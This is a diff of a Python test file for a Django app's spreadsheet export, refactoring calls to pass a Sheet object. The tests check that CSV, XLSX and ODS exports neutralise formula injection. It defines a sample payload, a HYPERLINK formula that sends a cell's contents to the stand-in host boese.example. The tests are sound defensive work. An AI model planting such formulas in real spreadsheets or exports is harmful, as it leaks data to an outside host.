@@ -8,7 +8,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from accounts.roles import Role
-from edge.tables import Heading, csv_bytes, ods_bytes, xlsx_bytes
+from edge.tables import Heading, Sheet, csv_bytes, ods_bytes, xlsx_bytes
 from tests.factories import IdeaFactory, UserFactory
 
 ATTACK = '=HYPERLINK("https://boese.example/?d="&A1;"Details")'
@@ -25,7 +25,7 @@ def test_csv_cells_get_an_apostrophe_and_numbers_stay_numbers(text):
 
 
 def test_xlsx_keeps_the_text_and_stores_it_as_a_string_not_a_formula():
-    sheet = load_workbook(io.BytesIO(xlsx_bytes(["titel"], [[ATTACK]], title="t"))).active
+    sheet = load_workbook(io.BytesIO(xlsx_bytes(Sheet(["titel"], [[ATTACK]], title="t")))).active
     cell = sheet["A2"]
     assert cell.value == ATTACK
     assert cell.data_type == "s"
@@ -47,8 +47,8 @@ def ods_rows(content: bytes) -> list[list[tuple[str, str]]]:
 
 
 def test_ods_keeps_text_as_string_numbers_as_numbers_and_line_breaks():
-    content = ods_bytes(["titel", "zahl"], [[ATTACK, -3], Heading("Gruppe"), ["zwei\nZeilen\x07", 2.5]], title="t",
-                        widths=[40, 10], wrap=[1])  # fmt: skip
+    rows = [[ATTACK, -3], Heading("Gruppe"), ["zwei\nZeilen\x07", 2.5]]
+    content = ods_bytes(Sheet(["titel", "zahl"], rows, title="t", widths=[40, 10], wrap=[1]))
     assert content[:2] == b"PK"
     rows = ods_rows(content)
     assert rows[0] == [("string", "titel"), ("string", "zahl")]
